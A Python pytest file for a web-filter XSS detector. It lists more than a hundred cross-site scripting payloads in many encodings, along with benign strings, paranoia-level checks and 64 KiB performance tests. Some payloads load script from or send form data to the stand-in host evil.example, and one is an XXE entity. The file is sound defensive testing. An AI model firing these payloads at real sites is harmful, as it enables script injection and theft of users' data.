"""The XSS detector: executable contexts in many spellings, and benign text left alone."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.inspect.core import Location, Normalized, Severity
from bastion.inspect.detectors.xss import detect_xss

QUERY = Location("query", "q")


def rules(text: str, paranoia: int = 1, location: Location = QUERY) -> set[str]:
    return {match.rule for match in detect_xss(Normalized(text), location, paranoia)}


ATTACKS = [
    ("script", "<script>alert(1)</script>", "xss-script-tag"),
    ("script-case", "<ScRiPt >alert(1)</sCrIpT>", "xss-script-tag"),
    ("script-url-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss-script-tag"),
    ("script-double-encoded", "%253Cscript%253Ealert(1)", "xss-script-tag"),
    ("script-entities", "&lt;script&gt;alert(1)", "xss-script-tag"),
    ("script-full-width", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "xss-script-tag"),
    ("script-namespaced", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">', "xss-script-tag"),
    ("script-utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "xss-script-tag"),
    ("script-high-bit", "\\xbcscript\\xbealert(1)\\xbc/script\\xbe", "xss-script-tag"),
    ("img-onerror-unquoted", "<img src=x onerror=alert(1)>", "xss-event-handler"),
    ("svg-slash-onload", "<svg/onload=alert(1)>", "xss-event-handler"),
    ("handler-newline", "<img\nsrc=x\nonerror\n=alert(1)>", "xss-event-handler"),
    ("handler-unclosed", "<img src=x onerror=alert(1)//", "xss-event-handler"),
    ("handler-quote-breakout", "\" onmouseover='prompt(1)'", "xss-event-handler"),
    ("handler-unknown-in-tag", "<xss onxyzzy=alert(1)>", "xss-tag-handler"),
    ("js-url", '<a href="javascript:alert(1)">x</a>', "xss-script-url"),
    ("js-url-hex-entity", "&#x6a;avascript:alert(1)", "xss-script-url"),
    ("js-url-colon-entity", "javascript&colon;alert(1)", "xss-script-url"),
    ("js-url-tab", "java\tscript:alert(1)", "xss-script-url"),
    ("js-url-newline-entity", "jav&#10;ascript:alert(1)", "xss-script-url"),
    ("js-url-tab-entity-encoded", "ja%26Tab%3Bvascript%3Aalert(1)", "xss-script-url"),
    ("js-url-double-entity", "ja&amp;Tab;vascript:alert(1)", "xss-script-url"),
    ("js-url-leading-control", "\x01javascript:alert(1)", "xss-script-url"),
    ("js-url-full-width", "\uff4aavascript:alert(1)", "xss-script-url"),
    ("vbscript-url", "vbscript:MsgBox(1)", "xss-script-url"),
    ("data-html", "data:text/html;base64,PHNjcmlwdD4=", "xss-data-url"),
    ("data-svg", "DATA:image/svg+xml,<svg onload=alert(1)>", "xss-data-url"),
    ("iframe", "<iframe src=//evil.example>", "xss-embedding-tag"),
    ("object", "<OBJECT data=x.swf>", "xss-embedding-tag"),
    ("embed", '<embed src="deuce.swf">', "xss-embedding-tag"),
    ("base-href", '<base href="//evil.example/">', "xss-base-href"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=//evil">', "xss-meta-tag"),
    ("srcdoc", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', "xss-srcdoc"),
    ("formaction", "<button formaction=javascript:alert(1)>", "xss-formaction"),
    ("style-expression", '<p style="width: expression(alert(1))">', "xss-css-code"),
    ("style-url-js", "<p style=\"background:url('javascript:alert(1)')\">", "xss-css-code"),
    (
        "svg-animate",
        '<svg><animate attributeName="href" values="javascript:alert(1)"/>',
        "xss-svg-animation",
    ),
    ("svg-set", '<svg><set attributeName="onmouseover" to="alert(1)"/>', "xss-svg-animation"),
    ("angular", "{{constructor.constructor('alert(1)')()}}", "xss-template-injection"),
    (
        "angular-entities",
        "&#x7B;&#x7B;constructor.constructor('alert(1)')()&#x7D;&#x7D;",
        "xss-template-injection",
    ),
    ("tagged-template", "[].sort.call`${alert}1337`", "xss-tagged-template"),
    ("global-bracket", 'window["alert"](document["cookie"])', "xss-js-global-access"),
    ("cookie-comment-split", "document /*x*/ . /*y*/ cookie", "xss-js-global-access"),
    ("jsfuck", "(![]+[])[+!+[]]", "xss-jsfuck"),
    ("code-position-call", 'x";setTimeout(name, 1)//', "xss-js-call-code"),
    ("spaced-tag", "<f o r m action=//evil>", "xss-spaced-tag"),
    (
        "xxe",
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>',
        "xss-xml-external-entity",
    ),
    # Handlers in any element, custom or unknown, with odd separators.
    ("custom-element-handler", "<custom-el onpointerenter=alert(1)>", "xss-event-handler"),
    ("handler-form-feed", "<svg%0Conload=alert(1)>", "xss-event-handler"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>", "xss-event-handler"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x>", "xss-event-handler"),
    # An unknown on* name turned into an attribute by a quote, or by leading whitespace.
    ("quote-handler", '" onxyzzy=alert(1) "', "xss-quote-handler"),
    ("quote-handler-slash", "'/onfoobar=top['al'+'ert'](1)//", "xss-quote-handler"),
    ("quote-handler-encoded", "%22%20oncustomthing%3D%22alert(1)", "xss-quote-handler"),
    ("quote-handler-entity", "&quot; onsomething=location=name", "xss-quote-handler"),
    ("handler-leading-space", "%20%20onabcdefgh%3d%20", "xss-quote-handler"),
    # Raw-text elements: mutation XSS and breakouts of <title> and <textarea>.
    ("noscript", '<noscript><p title="</noscript><img src=x>">', "xss-rawtext-breakout"),
    ("noscript-odd-end", "<noscript#", "xss-rawtext-breakout"),
    ("noembed-encoded", "%3Cnoembed%3E", "xss-rawtext-breakout"),
    ("xmp-entities", "&lt;/xmp&gt;", "xss-rawtext-breakout"),
    ("title-breakout", "</title><b>x</b>", "xss-rawtext-breakout"),
    ("textarea-breakout-quoted", '"></textarea><i>', "xss-rawtext-breakout"),
    ("title-breakout-escaped", "\\u003c/title\\u003e", "xss-rawtext-breakout"),
    # Closing the comment or CDATA section the value is reflected into.
    ("comment-close", "-->", "xss-comment-breakout"),
    ("comment-close-encoded", "--%3E", "xss-comment-breakout"),
    ("comment-close-bang", '"--!><b>', "xss-comment-breakout"),
    ("comment-close-entity", "x=&quot;--&gt;", "xss-comment-breakout"),
    ("cdata-close", "]]><x>", "xss-comment-breakout"),
    ("comment-then-script", "--><script>alert(1)</script>", "xss-script-tag"),
    # Tags left open: attribute takeover and dangling markup.
    ("unclosed-tag", '<a href="test"', "xss-dangling-tag"),
    ("unclosed-tag-encoded", "%3Ca%20href%3D%22test%22", "xss-dangling-tag"),
    ("dangling-markup", "\"><img src='//evil.example/?", "xss-dangling-tag"),
    ("dangling-markup-entities", "&lt;img src=&#39;//evil.example/?", "xss-dangling-tag"),
    # Form controls that act on their own.
    ("input-autofocus", "<input autofocus onfocus=alert(1)>", "xss-form-control"),
    ("input-pattern", '<input pattern="^a regex$">', "xss-form-control"),
    ("button-formaction-encoded", "%3Cbutton%20form=x%20formaction=//evil%3E", "xss-form-control"),
    ("form-action", "<form action=//evil.example><input name=password>", "xss-form-control"),
    ("isindex", "&lt;isindex&gt;", "xss-form-control"),
    # Internet Explorer's quote-and-"in" filter evasions.
    ("ie-in-valueof", '"in \\u0076\\u0061l\\u0075e\\u004F\\u0066=', "xss-ie-in-operator"),
    ("ie-in-location", "%22in%20location%3D", "xss-ie-in-operator"),
    ("ie-in-property", "'  infoo.bar=", "xss-ie-in-operator"),
    ("ie-in-xml-entity", 'probe="&quot;in name=">', "xss-ie-in-operator"),
    # High-bit (US-ASCII) markup, including the UTF-8 lead bytes of "¼" and "¾".
    (
        "high-bit-harmless-tag",
        "\\xbctest\\xbetest(\\xa2XSS\\xa2)\\xbc/test\\xbe",
        "xss-high-bit-markup",
    ),
    ("high-bit-utf8", "\\xc2\\xbcscript\\xc2\\xbealert(1)", "xss-script-tag"),
    ("high-bit-cyrillic-lead", "\\xd0\\xbcscript\\xd0\\xbealert(1)", "xss-script-tag"),
    # Script URLs in any URL attribute, entity- and whitespace-obfuscated.
    (
        "js-url-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;script:alert(1)">',
        "xss-script-url",
    ),
    ("js-url-padded-entities", '<a href="&#0000106avascript:alert(1)">', "xss-script-url"),
    ("js-url-newline-named", '<a href="java&NewLine;script:alert(1)">', "xss-script-url"),
    ("js-url-colon-hex", '<a href="javascript&#x3A;alert(1)">', "xss-script-url"),
    ("js-url-form-action", '<form action="javascript:alert(1)">', "xss-script-url"),
    ("js-url-poster", "<video poster=javascript:alert(1)//>", "xss-script-url"),
    # Mutation XSS shapes.
    (
        "mxss-mglyph",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "xss-event-handler",
    ),
    (
        "mxss-svg-style",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "xss-embedding-tag",
    ),
    # Client-side templates reaching globals or dialogs.
    ("template-global", "{{window.alert(1)}}", "xss-template-injection"),
    ("template-self", "{{ self.alert(1) }}", "xss-template-injection"),
    (
        "template-default-view",
        "{{$el.ownerDocument.defaultView.alert(1)}}",
        "xss-template-injection",
    ),
    ("template-entities", "&#123;&#123;alert(1)&#125;&#125;", "xss-template-injection"),
    ("new-function-tagged", "new Function`alert\\`1\\``", "xss-tagged-template"),
    # JavaScript after breaking out of a string, in the spellings filters miss.
    ("js-string-minus", "'-alert(1)-'", "xss-js-call-code"),
    ("js-string-times-encoded", "%22*prompt(1)*%22", "xss-js-call-code"),
    ("js-string-semicolon", "';alert(1)//", "xss-js-call-code"),
    ("js-template-literal", "${alert(1)}", "xss-js-call-code"),
    ("js-optional-call", "alert?.(1)", "xss-js-call-code"),
    ("js-parenthesized", "(alert)(1)", "xss-js-call-code"),
    ("js-assigned-in-parens", "'(z=alert)(1)'", "xss-js-call-code"),
    ("js-global-member", "';top.alert(1)//", "xss-js-call-code"),
    ("js-function-reference", "'-[1].map(alert)-'", "xss-js-call-code"),
    ("js-dynamic-import", "';import('//evil.example/x.js')//", "xss-js-call-code"),
    ("js-eval-atob", "eval(atob('YWxlcnQoMSk='))", "xss-js-call-code"),
    ("js-eval-atob-escaped", "\\x65val(atob(`YWxlcnQoMSk=`))", "xss-js-call-code"),
    ("script-close-open", "</script><script>alert(1)</script>", "xss-script-tag"),
]


@pytest.mark.parametrize(
    ("text", "rule"), [(a, r) for _, a, r in ATTACKS], ids=[i for i, _, _ in ATTACKS]
)
def test_attack_matches_at_paranoia_1(text: str, rule: str) -> None:
    assert rule in rules(text)


BENIGN = [
    ("less-than", "a<b"),
    ("comparison", "x < 3 and y > 2"),
    ("a-lt-b-gt", "a<b and c>d"),
    ("heart", "I <3 this product"),
    ("email", "Bob Smith <bob@example.com>"),
    ("markdown", "**Bold** and _italic_, see [docs](https://example.com/docs) `code`"),
    ("markdown-image", "![](https://cdn.example.com/x.png)"),
    ("bold-tag", "<b>bold</b> and <i>italic</i>"),
    ("paragraph-link", '<p>See <a href="https://example.com">our site</a></p>'),
    ("prose-javascript", "I am learning JavaScript: the good parts"),
    ("prose-alert", "Please set an alert (daily) for price drops"),
    ("prose-online", "online=true&onsale=1"),
    ("prose-expression", "a regular expression (regex) matches"),
    ("math", "f(x) = 2x + 1, where x >= 0 and y <= 5"),
    ("arrow", "Settings -> Profile => Save"),
    ("code-in-prose", "use array.map(fn) and then filter(Boolean)"),
    ("template-placeholder", "Hello {{name}}, your order {{order_id}} shipped"),
    ("json-like", '{"a": [1, 2, 3], "b": {"c": null}}'),
    ("data-image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE="),
    ("base64-onload-ish", "MIAGCSqGSIb3DQonabcdefgh=HIJAoGBAM"),
    ("hearts", "<3 <3 <3"),
    ("emails", "Contact: <bob@example.com>, <alice@example.org>"),
    ("arrows-in-prose", "A --> B --> C, then step one --> step two"),
    ("html-comment", "<!-- note --> text"),
    ("generics", "List<String> names = new ArrayList<>();"),
    ("code-comparison", "if (a < b && c > d) { return x; }"),
    ("arrow-function", "a => a * 2; score >= 90 ? 'A' : 'B'"),
    ("template-literal-prose", "Hello ${name}, your total is ${total}"),
    ("template-filters", "{{ user.name | upper }} {{#each items}}{{this}}{{/each}}"),
    ("harmless-list", "<ul><li>one</li><li>two</li></ul>"),
    ("closed-link", '<a href="https://example.com">x</a>'),
    ("title-in-prose", "The </title> tag closes the title"),
    ("input-in-prose", 'Use <input type="text"> for text'),
    ("math-with-quotes", 'x <y and z = "w"'),
    ("quoted-file-name", '"index.html=1"'),
    ("quoted-words-and-minus", "I said 'no' - eval (x) later"),
    ("quoted-then-on-word", 'filter: "status" ongoing=1'),
    ("recipe-fractions", "\u00bc cup flour, \u00be cup sugar"),
    ("print-call", "see window.print()"),
]


@pytest.mark.parametrize("text", [t for _, t in BENIGN], ids=[i for i, _ in BENIGN])
def test_benign_text_does_not_match_at_paranoia_1(text: str) -> None:
    assert rules(text) == set()


def test_comment_markers_block_only_where_they_close_a_comment() -> None:
    # An arrow between words is prose; the marker alone, or after a quote, ends a comment.
    assert rules("first --> second") == set()
    assert rules("-->") == {"xss-comment-breakout"}
    assert rules("'-->") == {"xss-comment-breakout"}
    assert "xss-html-comment" in rules("first --> second", 3)


def test_harmless_markup_matches_only_from_paranoia_3() -> None:
    assert rules("<b>bold</b>", 2) == set()
    assert rules("<b>bold</b>", 3) == {"xss-html-tag"}


def test_script_calls_without_markup_match_from_paranoia_2() -> None:
    text = "please call alert(s) now"
    assert rules(text, 1) == set()
    assert "xss-js-call" in rules(text, 2)


def test_match_carries_location_category_severity_and_level() -> None:
    location = Location("header", "referer")
    (match,) = detect_xss(Normalized("<script>"), location, 1)
    assert (match.rule, match.category, match.severity) == (
        "xss-script-tag",
        "xss",
        Severity.CRITICAL,
    )
    assert (match.location, match.paranoia) == (location, 1)


def test_namespaced_xml_is_normal_in_a_raw_body() -> None:
    xml = '<root xmlns="urn:example:orders"><id>1</id></root>'
    assert "xss-xml-namespace" in rules(xml, 1, Location("form", "doc"))
    assert "xss-xml-namespace" not in rules(xml, 4, Location("body"))


def test_higher_paranoia_never_drops_a_match() -> None:
    text = "<img src=x onerror=alert(1)><b>x</b>"
    found = [rules(text, level) for level in (1, 2, 3, 4)]
    assert all(found[i] <= found[i + 1] for i in range(3))


@pytest.mark.parametrize("text", ["%ed%a0%80<script>", "\\ud83d<script>\\udc00"])
def test_lone_surrogates_do_not_raise(text: str) -> None:
    assert detect_xss(Normalized(text), Location("json", "url"), 4)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300), st.sampled_from([1, 2, 3, 4]))
def test_never_raises_and_is_deterministic(text: str, paranoia: int) -> None:
    first = detect_xss(Normalized(text), QUERY, paranoia)
    assert first == detect_xss(Normalized(text), QUERY, paranoia)
    assert all(match.paranoia <= paranoia for match in first)


@pytest.mark.parametrize(
    "text",
    [
        "<" * 65536,
        "<a " + "x=" * 32000 + ">",
        "&#x6a;" * 10000,
        "javascript" * 6500,
        "{{" * 32768,
        "%3C" * 21000,
        "\\xbc" * 16000,
        "\\xbca" * 13000,
        '" onx=' * 9000,
        "<x " + 'a="b" ' * 10000,
        "-->" * 21000,
        "{{" + "a." * 32000,
        "'-" * 32000,
    ],
    ids=[
        "angles",
        "attributes",
        "entities",
        "scheme-words",
        "braces",
        "percent",
        "high-bit",
        "high-bit-tags",
        "quote-handlers",
        "open-tag",
        "comment-ends",
        "template-path",
        "string-breakouts",
    ],
)
def test_adversarial_64k_input_completes(text: str) -> None:
    started = time.perf_counter()
    detect_xss(Normalized(text), QUERY, 4)
    elapsed = time.perf_counter() - started
    print(f"xss 64 KiB adversarial: {elapsed * 1000:.1f} ms")
    # Linear-time matching takes milliseconds here; a backtracking pattern would take minutes.
    assert elapsed < 2.0


def test_utf7_markup_is_decoded_without_a_regex_callback() -> None:
    assert "xss-script-tag" in {
        m.rule for m in detect_xss(Normalized("+ADw-script+AD4-"), Location("query", "q"), 1)
    }


def test_utf7_repetition_scales_linearly() -> None:
    # One substitution callback per "+ADw-" made this the slowest 64 KiB shape.
    from bastion.inspect.detectors.xss import _utf7

    assert _utf7("+adw-" * 16000) == "<" * 16000


@pytest.mark.parametrize("text", ["abc123", "550e8400-e29b-41d4", "hello world", "v1.2_3"])
def test_inert_values_skip_the_rule_set(text: str) -> None:
    from bastion.inspect.detectors.xss import _inert

    assert _inert(text)


@pytest.mark.parametrize(
    "text", ["document.cookie", "window.location", "ADw-script", "a<b", "%3cscript", "\uff1cx"]
)
def test_values_that_may_match_are_not_inert(text: str) -> None:
    from bastion.inspect.detectors.xss import _inert

    assert not _inert(text)


# Characters the pre-check lets through, mixed with the words and names rules are built on: no
# rule may match a value the check calls inert (each rule needs one of "<>[{`", or one of
# "=(:#!" with a word of that character's list, or a word the check always refuses).
_INERT_PARTS = st.sampled_from(
    ["script", "javascript", "java", "\t", "\n", "onload", " onerror", "alert", "eval", "style",
     "iframe", "srcdoc", "formaction", "import", "data", "svg", "xmlns", "expression", "url",
     "prompt", "on", "a", "1", " ", "_", ".", "-", ",", ";", "'", '"', "?", "*", "$", "^", "|",
     "~", "/", "@", "+", ")", "]", "}", "entity", "!entity ", "location", "cookie", "this",
     "top", "=", "1=1", "src", "href", "x=", "behavior", "@import", "vbscript", "(", ":", "#",
     "!", "#@~^", "-moz-binding", "xlink:href", "function", "new ", "(alert)", "text/html,",
     "msgbox", "fromcharcode", "innerhtml", "in ", "language", "self.", "atob", "onx",
     "onclick", "union", "login", "\x0b", "schemalocation", "end", "abc", "name", "valueof"]
)  # fmt: skip


@settings(max_examples=3000, deadline=None)
@given(st.lists(_INERT_PARTS, min_size=1, max_size=10))
def test_no_rule_matches_what_the_pre_check_calls_inert(parts: list[str]) -> None:
    from bastion.inspect.detectors.xss import _RULE_SET, _inert

    text = "".join(parts)
    if _inert(text):
        assert not _RULE_SET.Match(text.lower().encode())
        assert detect_xss(Normalized(text), QUERY, 4) == []


@pytest.mark.parametrize(
    "text",
    ["javascript:alert(1)", "java\tscript:x", "x=alert(1)", "a onclick=b", "data:text/html,x",
     "style=x:expression(y)", "url(javascript:x)", "!entity x system", "#@~^abc", "top.eval(1)",
     "new function(x)", "a.innerhtml=b", "xlink:href", "-moz-binding:url(x)", "'in location='"],
)  # fmt: skip
def test_attacks_built_on_equals_parenthesis_colon_hash_or_bang_are_never_inert(text: str) -> None:
    from bastion.inspect.detectors.xss import _inert

    assert not _inert(text)


@pytest.mark.parametrize(
    ("text", "inert"),
    [("1' or 1=1--", True), ("id=42&x", False), ("a=b", True), ("x onload=y", False),
     ("q=select in", True), ("style=a", False), ("a.innerHTML=b", False), ("lang=en", True),
     ("sleep(5)", True), ("12:30", True), ("#1 item!", True), ("alert(1)", False),
     ("1 union select 1=1", True), ("join=left", True), ("x onend =y", False),
     ("'in name=x", False), ("in=1", True), ("ona=1", True), ("onabc=1", False),
     ("onname+=", False)],
)  # fmt: skip
def test_equals_parenthesis_colon_need_a_word_of_their_rules(text: str, inert: bool) -> None:
    from bastion.inspect.detectors.xss import _inert

    assert _inert(text) == inert


@pytest.mark.parametrize(
    "text",
    ['it\'s "quoted"; ok?', "a/b/c@d.e", "x|y ~z^2 $5", "(a) [b] {c}", "1+1", "100%"],
)
def test_punctuation_no_rule_uses_is_inert_and_decodable_text_is_not(text: str) -> None:
    from bastion.inspect.detectors.xss import _inert

    # Braces and brackets are what rules are built on; "%" may decode to markup.
    assert _inert(text) == ("{" not in text and "[" not in text and "%" not in text)
